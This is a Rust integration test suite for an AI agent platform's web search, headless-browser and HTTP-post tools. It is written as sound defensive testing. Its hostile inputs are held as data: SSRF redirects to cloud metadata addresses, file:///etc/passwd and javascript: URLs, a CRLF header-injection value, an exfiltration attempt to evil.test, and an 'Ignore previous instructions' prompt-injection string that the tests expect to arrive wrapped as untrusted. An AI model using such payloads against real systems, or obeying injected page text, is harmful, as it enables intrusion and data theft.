//! The web tools, through the real pipeline (model → arbiter → choird):
//! `choir.web.search` against a Brave fake, `choir.web.browse` in real
//! Chromium against a test site on loopback, `choir.http.post` to a local
//! receiver. The hostile cases sit next to the happy ones: internal
//! addresses behind redirects, forbidden schemes, oversized and slow pages,
//! a browser killed mid-call, two agents' cookies, a secret the agent must
//! never see, a post that must not be sent twice.

use std::time::Duration;

use choir_tests::fake_web::{FakeBrave, Receiver, TestSite, INJECTION};
use choir_tests::harness::{test_config, Choird};
use choir_tests::observe::{chromium_processes, wait_for};
use choir_tests::pg::TestPg;
use choir_tests::tool_calls::{assert_wrapped, call, caller, failed, ok};
use serde_json::{json, Value};

const BRAVE_KEY: &str = "brave-key-0f1e2d3c";
const HOOK_TOKEN: &str = "hook-token-9a8b7c6d";

fn web_config(llm: &str, db: &str, site_port: Option<u16>, brave: Option<&str>, receiver: Option<&str>) -> Value {
    let mut c = test_config(llm, Some(db), &["demo", "other", "plain"]);
    let mut web = json!({"allow_addresses": ["127.0.0.1/32"]});
    if let Some(origin) = receiver {
        web["post_origins"] = json!([origin]);
        web["post_secrets"] = json!({"hook_token": {"origins": [origin]}});
    }
    let _ = site_port;
    c["agents"]["demo"]["web"] = web.clone();
    c["agents"]["other"]["web"] = json!({"allow_addresses": ["127.0.0.1/32"]});
    c["web"] = json!({"browser": {"max_page_mb": 1, "load_timeout_ms": 4000, "action_timeout_ms": 4000, "max_text_chars": 5000}});
    if let Some(b) = brave {
        c["web"]["brave"] = json!({"base_url": b, "api_key_secret": "brave_key"});
    }
    c
}

#[test]
fn web_search_goes_through_brave_with_a_key_the_agent_never_sees_and_arrives_wrapped() {
    let Some(pg) = TestPg::start() else { return };
    let llm = caller();
    let brave = FakeBrave::start(BRAVE_KEY);
    let choird = Choird::start(
        &web_config(&llm.base_url(), &pg.url(), None, Some(&brave.base_url()), None),
        &json!({"llm_key": "k", "brave_key": BRAVE_KEY}),
    );
    choird.ctl_ok(&["agent", "start", "demo"]);

    let r = call(&choird, "demo", "choir.web.search", json!({"query": "choir agents", "count": 3}));
    ok(&r);
    assert_eq!(r["output_trust"], "untrusted");
    assert_eq!(r["count"], 3);
    let content = r["content"].as_str().unwrap();
    assert_wrapped(content, &format!("{}/res/v1/web/search?q=choir+agents", brave.base_url()));
    assert!(content.contains("1. Result 1 for choir agents\n   https://example.test/1"), "{content}");
    assert!(content.contains("Ignore previous instructions") && content.contains("(2 days ago)"), "{content}");
    let sent = brave.requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].token.as_deref(), Some(BRAVE_KEY));
    assert!(sent[0].url.contains("count=3"), "{}", sent[0].url);

    // A 429 is waited out (X-RateLimit-Reset: 1) and retried.
    brave.rate_limit_next(1);
    ok(&call(&choird, "demo", "choir.web.search", json!({"query": "again"})));
    assert_eq!(brave.requests().iter().filter(|q| q.q == "again").count(), 2);
    // One that lasts: a clear error once the retries are spent.
    brave.rate_limit_next(10);
    let e = failed(&call(&choird, "demo", "choir.web.search", json!({"query": "limited"})));
    assert!(e.contains("rate limit"), "{e}");
    brave.rate_limit_next(0);
    // Bad input is refused by the schema before choird asks anyone.
    let before = brave.requests().len();
    let e = failed(&call(&choird, "demo", "choir.web.search", json!({"query": "x", "count": 50})));
    assert!(e.contains("count") || e.contains("50"), "{e}");
    let e = failed(&call(&choird, "demo", "choir.web.search", json!({"query": "x", "freshness": "yesterday"})));
    assert!(e.contains("freshness") || e.contains("yesterday"), "{e}");
    assert_eq!(brave.requests().len(), before, "nothing reached the search service");

    // The key is nowhere the agent or its model could see it.
    let shown: String = llm.requests().iter().map(|r| r.body.to_string()).collect();
    assert!(!shown.contains(BRAVE_KEY));
    let events = choird.ctl_ok(&["--json", "agent", "events", "demo"]);
    assert!(!events.contains(BRAVE_KEY));

    // Where the web tools are not configured, they are listed as available, saying why.
    let tools: Value = serde_json::from_str(&choird.ctl_ok(&["--json", "tools", "list", "plain"])).unwrap();
    let row = |name: &str| tools["tools"].as_array().unwrap().iter().find(|t| t["name"] == name).cloned().unwrap();
    assert_eq!(row("choir.web.search")["status"], "available");
    assert_eq!(row("choir.web.search")["why"], "agents.plain.web is not configured");
    assert_eq!(row("choir.exec")["status"], "system");
    assert_eq!(row("choir.exec")["runs"], "agent");
    let tools: Value = serde_json::from_str(&choird.ctl_ok(&["--json", "tools", "list", "demo"])).unwrap();
    let row = |name: &str| tools["tools"].as_array().unwrap().iter().find(|t| t["name"] == name).cloned().unwrap();
    assert_eq!(
        (row("choir.web.search")["status"].as_str(), row("choir.web.search")["runs"].as_str()),
        (Some("connected"), Some("choird"))
    );
    assert_eq!(row("choir.http.post")["why"], "agents.demo.web.post_origins is empty");
    let text = choird.ctl_ok(&["tools", "list", "demo"]);
    assert!(text.contains("choir.web.browse") && text.contains("connected"), "{text}");
}

/// Whether Chromium is installed; without it a test skips (and `make test`,
/// which installs it, fails).
fn chromium_here() -> bool {
    if std::path::Path::new("/usr/bin/chromium").exists() {
        return true;
    }
    assert!(!choir_tests::services_required(), "Chromium is required (make test installs it)");
    eprintln!("skipped: no Chromium (apt install chromium)");
    false
}

/// Chromium processes choird started.
fn browsers(choird: &Choird) -> Vec<i32> {
    chromium_processes(choird.pid())
}

#[test]
fn the_browser_reads_pages_keeps_agents_apart_refuses_internal_addresses_and_survives_its_death() {
    let Some(pg) = TestPg::start() else { return };
    if !chromium_here() {
        return;
    }
    let llm = caller();
    let site = TestSite::start();
    let mut choird = Choird::start(&web_config(&llm.base_url(), &pg.url(), None, None, None), &json!({"llm_key": "k"}));
    choird.ctl_ok(&["agent", "start", "demo"]);
    choird.ctl_ok(&["agent", "start", "other"]);
    let base = site.base_url();
    let browse = |agent: &str, args: Value| call(&choird, agent, "choir.web.browse", args);

    // A static page: the main content, scripts, styles and hidden text
    // dropped, links numbered, all inside the wrapper, marked untrusted.
    let r = browse("demo", json!({"action": "open", "url": format!("{base}/")}));
    ok(&r);
    assert_eq!(r["output_trust"], "untrusted");
    assert_eq!(r["url"], format!("{base}/"));
    let page = r["content"].as_str().unwrap();
    assert_wrapped(page, &format!("{base}/"));
    assert!(page.contains("Title: Choir test site") && page.contains("The static page says hello."), "{page}");
    assert!(page.contains(INJECTION), "the injected text arrives, inside the wrapper: {page}");
    assert!(!page.contains("script text") && !page.contains("hidden text") && !page.contains("color:red"), "{page}");
    assert!(page.contains("[1] Second page") && page.contains("[2] The form"), "{page}");
    assert!(!page.contains("Nav"), "the main content only: {page}");
    assert!(
        r.get("blocked").is_none(),
        "nothing of the page was refused (and the browser asks for nothing of its own): {r}"
    );

    // Script-rendered content is there once the page's requests are done.
    let r = browse("demo", json!({"action": "open", "url": format!("{base}/js")}));
    assert!(ok(&r)["content"].as_str().unwrap().contains("rendered by script"), "{r}");

    // Links by number, back, a form typed and submitted.
    browse("demo", json!({"action": "open", "url": format!("{base}/")}));
    let r = browse("demo", json!({"action": "click", "link": 1}));
    assert!(ok(&r)["content"].as_str().unwrap().contains("This is the second page."), "{r}");
    let r = browse("demo", json!({"action": "back"}));
    assert!(ok(&r)["content"].as_str().unwrap().contains("The static page says hello."), "{r}");
    let e = failed(&browse("demo", json!({"action": "click", "link": 3})));
    assert!(e.contains("file: URLs are refused"), "{e}");
    let e = failed(&browse("demo", json!({"action": "click", "link": 99})));
    assert!(e.contains("no link [99]"), "{e}");
    browse("demo", json!({"action": "open", "url": format!("{base}/form")}));
    // The text is the user's (it is in the message), so the default
    // argument policy lets the form be submitted without a confirmation.
    let r = browse("demo", json!({"action": "type", "selector": "#q", "text": "Lovelace", "submit": true}));
    assert!(ok(&r)["content"].as_str().unwrap().contains("You typed: Lovelace"), "{r}");
    let e = failed(&browse("demo", json!({"action": "click", "selector": "#nope"})));
    assert!(e.contains("nothing on the page matches"), "{e}");
    let e = failed(&browse("demo", json!({"action": "type", "selector": "#q"})));
    assert!(e.contains("needs text"), "{e}");

    // Internal addresses, behind redirects and as sub-resources, are refused.
    let hits_before = site.hits().len();
    let e = failed(&browse("demo", json!({"action": "open", "url": format!("{base}/redirect-metadata")})));
    assert!(e.contains("169.254.169.254") && e.contains("internal"), "{e}");
    let e = failed(&browse("demo", json!({"action": "open", "url": format!("{base}/redirect-loopback")})));
    assert!(e.contains("127.0.0.2") && e.contains("internal"), "{e}");
    assert!(site.hits()[hits_before..].iter().all(|h| h != "/second"), "127.0.0.2 was never reached");
    let r = browse("demo", json!({"action": "open", "url": format!("{base}/img")}));
    let blocked = ok(&r)["blocked"].to_string();
    assert!(blocked.contains("169.254.169.254:80"), "{r}");
    // Forbidden schemes and bad URLs: refused before the browser sees them.
    for url in [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,hi",
        "chrome://settings",
        "not a url",
        "http://user:pw@x.test/",
        "http://x\u{0}y.test/",
    ] {
        let e = failed(&browse("demo", json!({"action": "open", "url": url})));
        assert!(e.contains("refused") || e.contains("not a valid URL"), "{url}: {e}");
    }
    let e = failed(&browse("demo", json!({"action": "open", "url": "http://10.0.0.1/"})));
    assert!(e.contains("internal"), "{e}");
    // Too big, too slow, a download: clear errors.
    let e = failed(&browse("demo", json!({"action": "open", "url": format!("{base}/big")})));
    assert!(e.contains("1 MiB"), "{e}");
    let e = failed(&browse("demo", json!({"action": "open", "url": format!("{base}/slow")})));
    assert!(e.contains("too long") || e.contains("within"), "{e}");
    let r = browse("demo", json!({"action": "open", "url": format!("{base}/download")}));
    assert_ne!(r["status"], "success", "a download is not a page: {r}");
    // A file chooser is never answered; the page goes on.
    browse("demo", json!({"action": "open", "url": format!("{base}/upload")}));
    let r = browse("demo", json!({"action": "click", "selector": "#f"}));
    assert!(ok(&r)["content"].as_str().unwrap().contains("Upload a file"), "{r}");
    let r = browse("demo", json!({"action": "open", "url": format!("{base}/long")}));
    assert_eq!(ok(&r)["truncated"], true, "{r}");

    // Two agents browsing at once, two cookie jars.
    let (mine, theirs) = std::thread::scope(|s| {
        let a = s.spawn(|| {
            ok(&browse("demo", json!({"action": "open", "url": format!("{base}/cookie/set?who=demo")})));
            browse("demo", json!({"action": "open", "url": format!("{base}/cookie/show")}))
        });
        let b = s.spawn(|| {
            ok(&browse("other", json!({"action": "open", "url": format!("{base}/cookie/set?who=other")})));
            browse("other", json!({"action": "open", "url": format!("{base}/cookie/show")}))
        });
        (a.join().unwrap(), b.join().unwrap())
    });
    assert!(ok(&mine)["content"].as_str().unwrap().contains("cookie: who=demo"), "{mine}");
    assert!(ok(&theirs)["content"].as_str().unwrap().contains("cookie: who=other"), "{theirs}");

    // A screenshot lands in .choirtmp/send/ as a PNG.
    let r = browse("demo", json!({"action": "screenshot"}));
    let path = ok(&r)["path"].as_str().unwrap().to_owned();
    assert!(path.starts_with(".choirtmp/send/screenshot-") && path.ends_with(".png"), "{r}");
    let png = std::fs::read(choird.workspace("demo").join(&path)).unwrap();
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");

    // Chromium runs as nobody, not as root.
    let pids = browsers(&choird);
    assert!(!pids.is_empty());
    for p in &pids {
        let status = std::fs::read_to_string(format!("/proc/{p}/status")).unwrap_or_default();
        let uid = status.lines().find(|l| l.starts_with("Uid:")).unwrap_or_default().to_owned();
        if !uid.is_empty() {
            assert!(!uid.split_whitespace().skip(1).any(|u| u == "0"), "chromium pid {p} runs as root: {uid}");
        }
    }

    // Chromium's own temporary files (its singleton socket's directory)
    // live in its profile, which choird removes: a killed browser leaves
    // nothing behind in /tmp (it did: one org.chromium.Chromium.* per kill).
    let mut checked = 0;
    for p in &pids {
        let cmdline = std::fs::read(format!("/proc/{p}/cmdline")).unwrap_or_default();
        let args: Vec<&str> = cmdline.split(|b| *b == 0).filter_map(|a| std::str::from_utf8(a).ok()).collect();
        let Some(profile) = args.iter().find_map(|a| a.strip_prefix("--user-data-dir=")) else { continue };
        if let Ok(target) = std::fs::read_link(std::path::Path::new(profile).join("SingletonSocket")) {
            assert!(target.starts_with(profile), "chromium pid {p} keeps its socket outside its profile: {target:?}");
            checked += 1;
        }
    }
    assert!(checked > 0, "no browser's singleton socket was found to check");

    // Killed mid-call: a clear error, and the next call works.
    std::thread::scope(|s| {
        let slow = s.spawn(|| browse("demo", json!({"action": "open", "url": format!("{base}/slow")})));
        std::thread::sleep(Duration::from_millis(1500));
        for p in browsers(&choird) {
            choir_common::proc_tree::signal(p, rustix::process::Signal::KILL);
        }
        let e = failed(&slow.join().unwrap());
        assert!(e.contains("browser exited"), "{e}");
    });
    let r = browse("demo", json!({"action": "open", "url": format!("{base}/second")}));
    assert!(ok(&r)["content"].as_str().unwrap().contains("second page"), "{r}");

    // choird stopped: no Chromium left.
    let pids = browsers(&choird);
    assert!(!pids.is_empty());
    choird.stop();
    wait_for("every Chromium process to be gone", Duration::from_secs(10), || {
        pids.iter().all(|p| !std::path::Path::new(&format!("/proc/{p}")).exists())
    });
}

/// CPU time (user + system, in clock ticks) of choird's Chromium processes.
fn chromium_cpu(choird: &Choird) -> u64 {
    browsers(choird)
        .into_iter()
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/stat")).ok())
        .filter_map(|s| {
            let rest: Vec<u64> =
                s.rsplit_once(')')?.1.split_whitespace().skip(11).take(2).filter_map(|v| v.parse().ok()).collect();
            Some(rest.iter().sum::<u64>())
        })
        .sum()
}

/// A hostile page cannot end an agent's browsing nor keep a core busy: a
/// page that spins and one that floods dialogs fail their own call, their
/// tab is discarded (the renderer crashed), and the next load works. A
/// page's WebRTC sends no UDP around the proxy. An IPv6 destination the
/// proxy refused is reported as refused, not opened.
#[test]
fn regression_a_spinning_page_or_a_dialog_flood_ended_the_agents_browsing_for_good() {
    let Some(pg) = TestPg::start() else { return };
    if !chromium_here() {
        return;
    }
    let llm = caller();
    let site = TestSite::start();
    let choird = Choird::start(&web_config(&llm.base_url(), &pg.url(), None, None, None), &json!({"llm_key": "k"}));
    choird.ctl_ok(&["agent", "start", "demo"]);
    let base = site.base_url();
    let browse = |args: Value| call(&choird, "demo", "choir.web.browse", args);
    let second = || {
        let r = browse(json!({"action": "open", "url": format!("{base}/second")}));
        assert!(ok(&r)["content"].as_str().unwrap().contains("This is the second page."), "{r}");
    };
    second();

    // A script that never yields: the call times out within its deadline.
    let e = failed(&browse(json!({"action": "open", "url": format!("{base}/spin")})));
    assert!(e.contains("took too long") || e.contains("did not finish loading"), "{e}");
    // Its renderer is gone: the browser burns (almost) no CPU afterwards.
    std::thread::sleep(Duration::from_millis(500));
    let ticks = chromium_cpu(&choird);
    std::thread::sleep(Duration::from_secs(2));
    let spent = chromium_cpu(&choird) - ticks;
    assert!(spent < 60, "Chromium spent {spent} ticks of CPU in 2 s after the spinning page's call returned");
    second();

    // A thousand alerts: dismissed up to the cap, then the page is given up on.
    let e = failed(&browse(json!({"action": "open", "url": format!("{base}/alerts")})));
    assert!(e.contains("dialogs"), "{e}");
    second();

    // A page's WebRTC sends nothing over UDP around the proxy (STUN and
    // TURN to a listener on this host).
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let r = browse(json!({"action": "open", "url": format!("{base}/webrtc?port={udp_port}")}));
    ok(&r);
    let mut got = 0;
    let until = std::time::Instant::now() + Duration::from_secs(4);
    let mut buf = [0u8; 2048];
    while std::time::Instant::now() < until {
        if udp.recv_from(&mut buf).is_ok() {
            got += 1;
        }
    }
    assert_eq!(got, 0, "a page's WebRTC sent {got} UDP datagrams past the egress proxy");

    // IPv6 loopback forms are refused, and said to be.
    let port = base.rsplit(':').next().unwrap().trim_end_matches('/');
    // (127.0.0.1 itself is allowed here, so its mapped form is too.)
    for host in ["[::1]", "[::ffff:127.0.0.2]", "[::]", "[64:ff9b::7f00:2]"] {
        let r = browse(json!({"action": "open", "url": format!("http://{host}:{port}/second")}));
        let e = failed(&r);
        assert!(e.contains("internal") || e.contains("refused"), "{host}: {r}");
    }
    second();
}

#[test]
fn http_post_reaches_only_allowed_origins_with_a_secret_the_agent_never_sees_and_never_twice() {
    let Some(pg) = TestPg::start() else { return };
    let llm = caller();
    let recv = Receiver::start();
    let origin = recv.origin();
    let choird = Choird::start(
        &web_config(&llm.base_url(), &pg.url(), None, None, Some(&origin)),
        &json!({"llm_key": "k", "hook_token": HOOK_TOKEN}),
    );
    choird.ctl_ok(&["agent", "start", "demo"]);
    let post = |args: Value| call(&choird, "demo", "choir.http.post", args);

    let r = post(json!({"url": format!("{origin}/hook?x=1"), "json": {"a": 1}, "auth_secret": "hook_token",
                        "headers": {"X-Trace": "t1"}}));
    ok(&r);
    assert_eq!(r["status_code"], 200);
    assert_eq!(r["output_trust"], "untrusted");
    assert_wrapped(r["body"].as_str().unwrap(), &format!("{origin}/hook?x=1"));
    let got = recv.received();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].url, "/hook?x=1");
    assert_eq!(got[0].body, r#"{"a":1}"#);
    let h = |name: &str| got[0].headers.iter().find(|(k, _)| k == name).map(|(_, v)| v.clone());
    assert_eq!(h("authorization"), Some(format!("Bearer {HOOK_TOKEN}")));
    assert_eq!(h("x-trace").as_deref(), Some("t1"));
    assert_eq!(h("content-type").as_deref(), Some("application/json"));

    let r = post(json!({"url": format!("{origin}/form"), "form": {"name": "Ada L", "n": "1"}}));
    ok(&r);
    assert_eq!(recv.received()[1].body, "n=1&name=Ada+L");

    // Redirects are reported, not followed.
    let r = post(json!({"url": format!("{origin}/redirect"), "json": {}}));
    assert_eq!(ok(&r)["status_code"], 307);
    assert!(r["body"].as_str().unwrap().contains("redirect to http://169.254.169.254/ not followed"), "{r}");
    assert_eq!(recv.received().len(), 3);

    // Refused, and nothing is sent.
    for (args, expect) in [
        (json!({"url": "http://127.0.0.1:1/x", "json": {}}), "not an origin this agent may post to"),
        (json!({"url": "https://evil.test/x", "json": {"secrets": "all"}}), "not an origin this agent may post to"),
        (
            json!({"url": format!("{origin}/x"), "json": {}, "headers": {"Authorization": "Bearer mine"}}),
            "set by choird",
        ),
        (
            json!({"url": format!("{origin}/x"), "json": {}, "headers": {"X-A": "a\r\nInjected: 1"}}),
            "not a valid header",
        ),
        (json!({"url": format!("{origin}/x"), "json": {}, "headers": {"X-A": "a\u{0}b"}}), "not a valid header"),
        (json!({"url": format!("{origin}/x"), "json": {}, "form": {}}), "exactly one of json and form"),
        (json!({"url": format!("{origin}/x")}), "exactly one of json and form"),
        (
            json!({"url": format!("{origin}/x"), "json": {}, "auth_secret": "llm_key"}),
            "not a secret this agent may post with",
        ),
        (json!({"url": "file:///etc/passwd", "json": {}}), "refused"),
    ] {
        let e = failed(&post(args.clone()));
        assert!(e.contains(expect), "{args}: {e}");
    }
    let big = json!({"tool": "choir.http.post", "args": {"url": format!("{origin}/x")}, "json_of_len": 1_100_000});
    let e = failed(&serde_json::from_str(choird.ctl_ok(&["chat", "demo", &big.to_string()]).trim()).unwrap());
    assert!(e.contains("at most"), "{e}");
    assert_eq!(recv.received().len(), 3, "nothing more was sent");

    // The secret's value is nowhere the agent or its model could see it.
    let shown: String = llm.requests().iter().map(|r| r.body.to_string()).collect();
    assert!(!shown.contains(HOOK_TOKEN));
    assert!(!choird.ctl_ok(&["--json", "agent", "events", "demo"]).contains(HOOK_TOKEN));
    // Every call is audited with its destination and status.
    let audit = choird.ctl_ok(&["--json", "audit", "--agent", "demo"]);
    let audit: Value = serde_json::from_str(&audit).unwrap();
    let posts: Vec<&Value> = audit["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["action"] == "EXECUTE_HOST_TOOL" && r["detail"]["tool"] == "choir.http.post")
        .collect();
    assert!(
        posts
            .iter()
            .any(|r| r["detail"]["destination"] == format!("{origin}/hook") && r["detail"]["status_code"] == 200),
        "{posts:?}"
    );
    assert!(!audit.to_string().contains(HOOK_TOKEN));

    // The agent dies after choird sent the post, before the outcome is
    // committed: on restart the outcome is completed, not sent again.
    let ws = choird.workspace("demo");
    choird.ctl_ok(&["agent", "stop", "demo"]);
    std::fs::create_dir_all(ws.join(".choir")).unwrap();
    std::fs::write(ws.join(".choir/failpoint"), "after_execute").unwrap();
    choird.ctl_ok(&["agent", "start", "demo"]);
    let err = choird.ctl_err(&[
        "chat",
        "demo",
        &json!({"tool": "choir.http.post", "args": {"url": format!("{origin}/once"), "json": {"n": 1}}}).to_string(),
    ]);
    assert!(err.contains("SIGKILL"), "{err}");
    assert_eq!(recv.received().iter().filter(|r| r.url == "/once").count(), 1);
    choird.wait_running("demo"); // restarted by choird after the crash
    wait_for("the resumed turn", Duration::from_secs(30), || {
        llm.requests()
            .iter()
            .any(|r| r.body.to_string().contains("answered 200") && r.body.to_string().contains("/once"))
    });
    assert_eq!(recv.received().iter().filter(|r| r.url == "/once").count(), 1, "sent once");
}
